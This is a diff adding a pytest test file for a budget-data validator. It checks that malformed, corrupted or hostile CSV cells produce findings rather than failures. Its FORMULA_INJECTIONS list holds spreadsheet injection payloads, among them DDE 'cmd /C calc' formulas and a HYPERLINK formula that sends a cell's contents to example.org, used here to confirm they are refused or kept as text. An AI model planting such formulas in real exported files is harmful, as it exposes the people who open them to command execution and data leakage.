@@ -1,0 +1,319 @@
+"""From raw text to typed inputs: what is said, what is not said twice, and how long it takes."""
+
+import csv
+import itertools
+import random
+import shutil
+import time
+from collections import Counter
+from pathlib import Path
+
+import pytest
+
+from bcf_model.check import check, load
+from bcf_model.errors import DataHasErrors
+from bcf_model.findings import CATALOGUE, FIELDS, Finding, as_rows, has_errors, one_of
+
+SOUND = Path(__file__).resolve().parent.parent / "broken" / "sound"
+
+FORMULA_INJECTIONS = (
+    *("=1+1", "=SUM(A1:A9)", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", '="a"&"b"', "=-1", "=@A1"),
+    *("=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\calc.exe'!''"),
+    *('=HYPERLINK("http://example.org?x="&A1)', '=WEBSERVICE("http://example.org")'),
+    *('=IMPORTXML("http://example.org","//a")', '=IMAGE("http://example.org/a.png")'),
+    *("+1+1", "+SUM(A1)", "+cmd|' /C calc'!A0", "-1+1", "-SUM(A1)", "-2+3+cmd|' /C calc'!A0"),
+    *("@SUM(A1)", "@import", "@A1", "|cmd", "%0A=1+1", ";=1+1", "'=1+1", '"=1+1"', "{=1+1}"),
+    *("＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "\x1b=1+1"),
+    *("http://example.org", "mailto:a@example.org", "file:///c:/a", "internal:Sheet1!A1"),
+    *("<script>alert(1)</script>", "{{7*7}}", "${7*7}", "&lt;b&gt;", "]]>"),
+)
+
+
+@pytest.fixture
+def pool(tmp_path: Path) -> Path:
+    """A copy of the sound pool to be spoiled."""
+    return Path(shutil.copytree(SOUND, tmp_path / "pool"))
+
+
+def spoil(pool: Path, file: str, old: str, new: str) -> None:
+    text = (pool / file).read_text(encoding="utf-8")
+    assert text.count(old) == 1, old
+    (pool / file).write_text(text.replace(old, new), encoding="utf-8")
+
+
+def codes(pool: Path) -> list[str]:
+    inputs, findings = check(pool)
+    assert (inputs is None) == has_errors(findings)
+    return [f.code for f in findings]
+
+
+# ------------------------------------------------------------------ hostile text
+
+
+@pytest.mark.parametrize("text", FORMULA_INJECTIONS)
+def test_a_name_that_could_be_a_formula_is_refused_or_is_text(pool: Path, text: str) -> None:
+    path = pool / "schemes.csv"
+    with path.open(encoding="utf-8", newline="") as file:
+        rows = list(csv.reader(file))
+    rows[4][3] = text
+    with path.open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows(rows)
+    inputs, findings = check(pool)
+    if inputs is None:
+        assert {f.code for f in findings} <= {"BCF005", "BCF208", "BCF209"}
+    else:
+        assert findings == []
+        assert inputs.schemes["scheme"][3] == text
+        assert not text.startswith("=")
+
+
+def test_bytes_changed_at_random_never_fail(pool: Path) -> None:
+    """100 pools, each with a few bytes of one file changed: findings, or inputs, and no third."""
+    spoiled = random.Random(2018)
+    sound = {p.name: p.read_bytes() for p in pool.iterdir()}
+    for _ in range(100):
+        name = spoiled.choice(sorted(sound))
+        data = bytearray(sound[name])
+        for _ in range(spoiled.randint(1, 4)):
+            at = spoiled.randrange(len(data))
+            data[at : at + spoiled.randint(0, 3)] = spoiled.choice(
+                [b'"', b",", b"\n", b"\0", b"\xff", b"=", b"-", b"(", b"9" * 30, "£".encode(), b"/"]
+            )
+        (pool / name).write_bytes(data)
+        codes(pool)
+        (pool / name).write_bytes(sound[name])
+
+
+def test_a_cell_may_hold_anything(pool: Path) -> None:
+    """An odd text in each column of each table: findings, or inputs, and no third."""
+    odd = itertools.cycle(
+        ("0", "-1", "9" * 30, "budget/measure=1", "pool", "not stated", "budget holder", "A+B/=")
+    )
+    for path in sorted(pool.glob("*.csv")):
+        sound = path.read_bytes()
+        with path.open(encoding="utf-8", newline="") as file:
+            rows = list(csv.reader(file))
+        for column, text in zip([*range(len(rows[0]))] * 2, odd, strict=False):
+            changed = [list(row) for row in rows]
+            changed[-1][column] = text
+            with path.open("w", encoding="utf-8", newline="") as file:
+                csv.writer(file).writerows(changed)
+            codes(pool)
+        path.write_bytes(sound)
+
+
+# ------------------------------------------------------------------ one defect, one finding
+
+
+@pytest.mark.parametrize(
+    ("file", "old", "new", "code"),
+    [
+        # A line that is wrong is not also missing from its rule, its total or its theme.
+        (
+            "schemes.csv",
+            "S5,2,Council,Home adaptations,C",
+            "S5,2,Council,Home adaptations,X",
+            "BCF304",
+        ),
+        ("schemes.csv", "S3,1,ICB", "S3,9,ICB", "BCF302"),
+        ("schemes.csv", "S1,1,ICB,Community nursing,A", "S1,1,ICB,Community nursing,", "BCF201"),
+        # A code that cannot be read is not also unknown wherever it is used.
+        ("organisations.csv", "Council,Anytown", "C/ouncil,Anytown", "BCF210"),
+        ("themes.csv", "2,Leaving", "2*,Leaving", "BCF210"),
+        ("categories.csv", "A,Solely", "NA,Solely", "BCF212"),
+        # A share that cannot be read does not also leave the shares short.
+        ("rules.csv", "66.666667", "two thirds", "BCF216"),
+        ("rules.csv", "R3,category=B", "R3,category B", "BCF405"),
+        ("rules.csv", "R4,category=C,over", "R4,category=C,up", "BCF211"),
+        # Whatever else is wrong with the settings, the unit is the unit.
+        ("pool.toml", "as_at", "as_of", "BCF103"),
+    ],
+)
+def test_no_finding_follows_from_another(
+    pool: Path, file: str, old: str, new: str, code: str
+) -> None:
+    spoil(pool, file, old, new)
+    found = [c for c in codes(pool) if c != "BCF102"]  # as_of: unknown, and as_at missing
+    assert found == [code]
+
+
+def test_without_a_unit_nothing_is_said_about_the_size_of_amounts(pool: Path) -> None:
+    spoil(pool, "pool.toml", '"pounds"', '"pence"')
+    spoil(pool, "schemes.csv", "120,000.00", "120,000,000.00")
+    assert codes(pool) == ["BCF104"]
+
+
+def test_the_unit_is_known_though_other_settings_are_wrong(pool: Path) -> None:
+    spoil(pool, "pool.toml", '"2018-19"', '"2018"')
+    spoil(pool, "schemes.csv", "30000.01", "30000.012")
+    assert codes(pool) == ["BCF104", "BCF203"]
+
+
+@pytest.mark.parametrize("name", sorted(p.name for p in SOUND.glob("*.csv")))
+def test_a_table_that_is_not_there_is_all_that_is_said(pool: Path, name: str) -> None:
+    (pool / name).unlink()
+    required = name not in {"commentary.csv", "control_totals.csv", "published.csv"}
+    assert codes(pool) == (["BCF002"] if required else [])
+
+
+@pytest.mark.parametrize("name", sorted(p.name for p in SOUND.glob("*.csv")))
+def test_a_table_that_cannot_be_read_is_all_that_is_said(pool: Path, name: str) -> None:
+    (pool / name).write_bytes(b"%PDF-1.7")
+    assert codes(pool) == ["BCF004"]
+
+
+def test_headings_alone_will_do_for_optional_tables(pool: Path) -> None:
+    for name in ("commentary.csv", "control_totals.csv", "published.csv"):
+        path = pool / name
+        path.write_bytes(path.read_bytes().splitlines(keepends=True)[0])
+    assert codes(pool) == []
+
+
+def test_optional_columns_may_be_left_out(pool: Path) -> None:
+    spoil(pool, "themes.csv", "theme,name,source,note", "theme,name")
+    spoil(pool, "themes.csv", "home,invented,", "home")
+    spoil(pool, "themes.csv", "hospital,invented,", "hospital")
+    assert codes(pool) == []
+
+
+# ------------------------------------------------------------------ codes, rules, amounts
+
+
+@pytest.mark.parametrize(
+    ("one", "other", "alike"),
+    [
+        ("S1", "s1", True),
+        ("1", "01", True),
+        ("1", "1.0", True),
+        ("1e2", "100", True),
+        ("D", "\uff24", True),  # full width
+        ("1_0", "10", False),
+        ("S1", "S10", False),
+        ("A B", "AB", False),
+    ],
+)
+def test_codes_a_spreadsheet_cannot_tell_apart(
+    pool: Path, one: str, other: str, alike: bool
+) -> None:
+    with (pool / "categories.csv").open("a", encoding="utf-8") as file:
+        file.write(f"{one},One,,,\n{other},Other,,,\n")
+    assert ("BCF306" in codes(pool)) is alike
+
+
+def test_each_direction_has_steps_of_its_own(pool: Path) -> None:
+    spoil(pool, "rules.csv", "category=C,under,1", "category=C,under,2")
+    assert codes(pool) == []
+
+
+def test_a_scope_may_name_lines_one_by_one(pool: Path) -> None:
+    spoil(pool, "rules.csv", "R1,category=A", "R1,scheme=S1+S2+S6")
+    assert codes(pool) == []
+    spoil(pool, "rules.csv", "S1+S2+S6", "S1+S2")
+    assert codes(pool) == ["BCF401"]
+
+
+def test_a_column_may_not_add_up_to_more_than_int64_holds(pool: Path) -> None:
+    spoil(pool, "schemes.csv", "30000.01", '"600,000,000,000"')
+    spoil(pool, "schemes.csv", '"81,500.37"', '"(600,000,000,000)"')
+    (pool / "control_totals.csv").unlink()
+    assert codes(pool) == ["BCF207", "BCF501"]
+
+
+def test_control_totals_say_by_how_much(pool: Path) -> None:
+    spoil(pool, "control_totals.csv", "195,555.63", "195,565.63")
+    [finding] = check(pool)[1]
+    assert finding.sentence.endswith(
+        "found £195555.63 in the lines, read in £; expected £195565.63, a difference of £-10.00"
+    )
+
+
+@pytest.mark.parametrize(
+    ("amount", "code"),
+    [("341.18", "BCF503"), ("341,179,280", "BCF503"), ("0.34", "BCF503"), ("34,117.93", "BCF502")],
+)
+def test_a_total_a_thousand_times_off_is_a_wrong_unit(pool: Path, amount: str, code: str) -> None:
+    spoil(pool, "control_totals.csv", "341,179.28", amount)
+    assert codes(pool) == [code]
+
+
+def test_nothing_stated_is_nothing_borne(pool: Path) -> None:
+    spoil(pool, "schemes.csv", "adaptations,C", "adaptations,not stated")
+    spoil(pool, "schemes.csv", "61,750.25", "64,000.00")
+    assert codes(pool) == ["BCF410"]  # a warning: the rules for C are idle now
+
+
+# ------------------------------------------------------------------ large pools
+
+
+def test_a_hundred_thousand_lines_take_seconds(pool: Path) -> None:
+    """A tenth of them wrong: the work grows with the rows, not with their square."""
+    heading = (pool / "schemes.csv").read_text(encoding="utf-8").splitlines()[0]
+    lines = (
+        f"L{i},{1 if i % 10 else 'X'},{'ICB' if i % 7 else 'Council'},Line {i},{'ABC'[i % 3]},"
+        f"revenue,pooled,{i}.{i % 100:02d},{i},invented,"
+        for i in range(100_000)
+    )
+    (pool / "schemes.csv").write_text("\n".join([heading, *lines]), encoding="utf-8")
+    (pool / "control_totals.csv").write_text("figure,amount\nbudget,0\n", encoding="utf-8")
+    (pool / "commentary.csv").unlink()
+    began = time.perf_counter()
+    assert Counter(codes(pool)) == {"BCF302": 10_000, "BCF502": 1}
+    assert time.perf_counter() - began < 30
+
+
+def test_many_scopes_and_many_codes_do_not_multiply(pool: Path) -> None:
+    """1,000 lines, each with a theme, a rule and a comment of its own."""
+    n = 1_000
+    write = {
+        "themes": ["theme,name", *(f"t{i},Theme {i}" for i in range(n))],
+        "schemes": [
+            "scheme_id,theme,organisation,scheme,category,kind,budget,expenditure",
+            *(f"L{i},t{i},ICB,Line {i},A,revenue,1,2" for i in range(n)),
+        ],
+        "rules": [
+            "rule_id,scope,direction,step,basis,bearer,share,clause",
+            *(f"R{i},scheme=L{i},either,1,fixed,Council,100,1" for i in range(n)),
+        ],
+        "commentary": ["scheme_id,reason", *(f"M{i},because" for i in range(n))],
+        "categories": ["category,name", "A,All"],
+        "control_totals": ["figure,amount", "budget,1000"],
+        "published": ["published_id,source,label,column,printed,unit,decimals,figure"],
+    }
+    for name, rows in write.items():
+        (pool / f"{name}.csv").write_text("\n".join(rows), encoding="utf-8")
+    began = time.perf_counter()
+    assert Counter(codes(pool)) == {"BCF308": n}
+    assert time.perf_counter() - began < 20
+
+
+# ------------------------------------------------------------------ findings
+
+
+def test_load_gives_the_inputs_or_every_finding(pool: Path) -> None:
+    assert load(pool).name == "pool"
+    spoil(pool, "themes.csv", "Leaving hospital", "")
+    spoil(pool, "schemes.csv", "30000.01", "ten")
+    with pytest.raises(DataHasErrors, match=r"\(and 1 more\)\. Nothing was calculated\.") as raised:
+        load(pool)
+    assert [f.code for f in raised.value.findings] == ["BCF202", "BCF201"]
+
+
+def test_findings_as_rows() -> None:
+    finding = Finding("BCF202", "schemes.csv", 4, "budget", "'ten'", "an amount in pounds", "x")
+    [row] = as_rows([finding])
+    assert tuple(row) == FIELDS
+    assert row["row"] == 4
+    assert as_rows([Finding("BCF003", "a.csv")])[0]["row"] == ""
+    assert finding.sentence == (
+        "schemes.csv, sheet x, row 4, column budget: This is not an amount of money: "
+        "found 'ten'; expected an amount in pounds"
+    )
+    assert finding.remedy == CATALOGUE["BCF202"].remedy
+
+
+def test_words_are_suggested_and_long_lists_cut_short() -> None:
+    assert one_of(["revenue", "capital"], "Capitel") == "'capital'? (one of revenue, capital)"
+    assert one_of(["revenue", "capital"], "zzz") == "one of revenue, capital"
+    many = [f"code-{i}" for i in range(100)]
+    assert one_of(many, "code77") == f"'code-77'? (one of {', '.join(many[:20])}, …)"
+    assert one_of([str(i) for i in range(100_000)], "x" * 10**6).endswith("19, …")
